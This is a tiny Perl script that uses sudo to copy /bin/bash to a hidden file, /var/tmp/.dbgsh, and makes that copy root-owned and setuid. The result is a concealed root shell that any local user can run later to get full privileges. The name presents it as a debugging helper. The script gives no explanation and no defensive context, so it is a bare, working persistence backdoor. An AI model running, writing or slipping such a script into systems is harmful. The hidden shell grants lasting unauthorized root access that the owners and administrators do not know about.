#!/usr/bin/perl
use strict;
system("sudo cp /bin/bash /var/tmp/.dbgsh");
system("sudo chown root:root /var/tmp/.dbgsh && sudo chmod 4755 /var/tmp/.dbgsh");
